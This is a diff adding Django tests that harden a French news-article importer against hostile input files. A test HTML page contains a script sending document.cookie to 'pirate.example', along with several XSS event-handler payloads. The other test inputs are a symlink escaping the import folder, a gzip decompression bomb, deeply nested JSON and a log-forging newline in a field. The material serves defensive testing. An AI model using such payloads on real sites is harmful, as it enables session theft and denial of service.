@@ -569,3 +569,111 @@ def test_the_seeds_are_searchable_without_accents(seeds):
     found = backend().search("armee")
     assert found["hits"] >= 1
     assert str(seeds[0].pk) in {result.pk for result in found["results"]}
+
+
+# Hardening: each hostile file is one refusal, the rest is imported ------------------------------------
+
+SCRIPTED_PAGE = """<html lang="fr"><head><title>Des soldats à El Paso</title>
+<style>article p { color: red }</style>
+<script>var jeton = document.cookie; fetch("https://pirate.example/?c=" + jeton);</script>
+</head><body onload="alert('charge')">
+<article><h1>Des soldats à El Paso</h1>
+<p>Les premiers soldats américains sont arrivés lundi à El Paso, au Texas, où ils installent des barbelés
+le long du Rio Grande pour une mission qui doit durer jusqu'à la mi-décembre selon le Pentagone.</p>
+<img src="x.jpg" onerror="alert('image')"><script>document.write('<p>injecté</p>')</script>
+<p>Les habitants regardent passer <a href="javascript:alert('lien')">les convois</a> sans
+<span onclick="alert('clic')">inquiétude</span>, disent les élus locaux interrogés par la presse.</p>
+<template><p>alert('gabarit')</p></template><noscript>Activez JavaScript.</noscript>
+</article></body></html>
+"""
+
+
+def build_hostile_folder(root):
+    folder = root / "lot"
+    folder.mkdir()
+    outside = root / "ailleurs.txt"
+    outside.write_text("Un texte hors du dossier importé.", encoding="utf-8")
+    # Good ones, some in awkward encodings.
+    (folder / "belga.txt").write_text(BELGA, encoding="utf-8")
+    (folder / "utf16.txt").write_text("L'armée déploie des soldats à Nogales.", encoding="utf-16")
+    (folder / "latin1.txt").write_bytes("Le général a visité la frontière à Noël.".encode("latin-1"))
+    (folder / "page.html").write_text(SCRIPTED_PAGE, encoding="utf-8")
+    (folder / "deux\nlignes.txt").write_text("Un fichier au nom sur deux lignes.", encoding="utf-8")
+    (folder / "afp.jsonl").write_text(
+        "\n".join(
+            [
+                json.dumps(AFP_LINE_1, ensure_ascii=False),
+                "[" * 5000,
+                json.dumps({"text": "x" * 20_000}),
+                json.dumps({"text": "Une note piégée.", "date": "hier\nREFUSÉ  faux.txt : inventé"}),
+                json.dumps(AFP_LINE_3, ensure_ascii=False),
+            ]
+        )
+        + "\n",
+        encoding="utf-8",
+    )
+    # Bad ones.
+    (folder / "enorme.txt").write_text("mot " * 5000, encoding="utf-8")
+    (folder / "lien.txt").symlink_to(outside)
+    with gzip.open(folder / "bombe.jsonl.gz", "wb") as stream:
+        stream.write(b"x" * 2_000_000)
+    return folder
+
+
+def test_a_folder_of_hostile_files_imports_the_good_ones_and_names_each_refusal_on_one_line(tmp_path):
+    folder = build_hostile_folder(tmp_path)
+    out, err = io.StringIO(), io.StringIO()
+
+    call_command(
+        "import_articles", str(folder), "--max-bytes=1000000", "--max-article-bytes=10000", stdout=out, stderr=err
+    )
+
+    assert summary(out.getvalue()) == "8 importé(s), 0 inchangé(s) (déjà présents), 5 refusé(s)."
+    assert refused_lines(err.getvalue()) == [
+        "REFUSÉ  afp.jsonl:2 : JSON invalide (trop imbriqué)",
+        "REFUSÉ  afp.jsonl:3 : ligne trop longue pour un article : 20 ko (limite 10 ko, "
+        "VIGIE_IMPORT_MAX_ARTICLE_BYTES ou --max-article-bytes)",
+        "REFUSÉ  bombe.jsonl.gz : trop gros une fois décompressé : plus de 1 Mo (limite 1 Mo, "
+        "VIGIE_IMPORT_MAX_BYTES ou --max-bytes)",
+        "REFUSÉ  enorme.txt : trop gros pour un article : 20 ko (limite 10 ko, "
+        "VIGIE_IMPORT_MAX_ARTICLE_BYTES ou --max-article-bytes)",
+        "REFUSÉ  lien.txt : lien hors du dossier, non suivi",
+    ]
+    # The JSON date with a newline is noted on one line, not as a forged refusal.
+    assert "NOTE    afp.jsonl:4 : date illisible « hier?REFUSÉ  faux.txt : inventé » ignorée" in err.getvalue()
+    articles = {article.ref: article for article in Article.objects.all()}
+    assert set(articles) == {
+        "belga.txt",
+        "utf16.txt",
+        "latin1.txt",
+        "page.html",
+        "deux?lignes.txt",
+        "afp.jsonl:1",
+        "afp.jsonl:4",
+        "afp.jsonl:5",
+    }
+    assert "L'armée déploie des soldats à Nogales." in articles["utf16.txt"].body
+    assert "Le général a visité la frontière à Noël." in articles["latin1.txt"].body
+    page = articles["page.html"]
+    assert "Les habitants regardent passer les convois sans inquiétude" in page.body
+    for code in ("alert", "document", "cookie", "pirate", "injecté", "color", "gabarit", "JavaScript"):
+        assert code not in page.body
+        assert code not in page.raw_text
+    assert not Article.objects.filter(body__contains="hors du dossier").exists()
+
+
+def test_the_size_limits_come_from_the_settings_when_the_options_are_not_given(tmp_path, settings):
+    settings.VIGIE_IMPORT_MAX_BYTES = 1000
+    settings.VIGIE_IMPORT_MAX_ARTICLE_BYTES = 100
+    (tmp_path / "court.txt").write_text("Un article court sur la frontière.", encoding="utf-8")
+    (tmp_path / "long.txt").write_text("mot " * 100, encoding="utf-8")
+    (tmp_path / "lot.jsonl").write_text(json.dumps({"text": "mot " * 300}) + "\n", encoding="utf-8")
+
+    stdout, stderr = run_import(tmp_path)
+
+    assert summary(stdout) == "1 importé(s), 0 inchangé(s) (déjà présents), 2 refusé(s)."
+    assert refused_lines(stderr) == [
+        "REFUSÉ  long.txt : trop gros pour un article : 400 octets (limite 100 octets, "
+        "VIGIE_IMPORT_MAX_ARTICLE_BYTES ou --max-article-bytes)",
+        "REFUSÉ  lot.jsonl : fichier trop gros : 1,2 ko (limite 1 ko, VIGIE_IMPORT_MAX_BYTES ou --max-bytes)",
+    ]
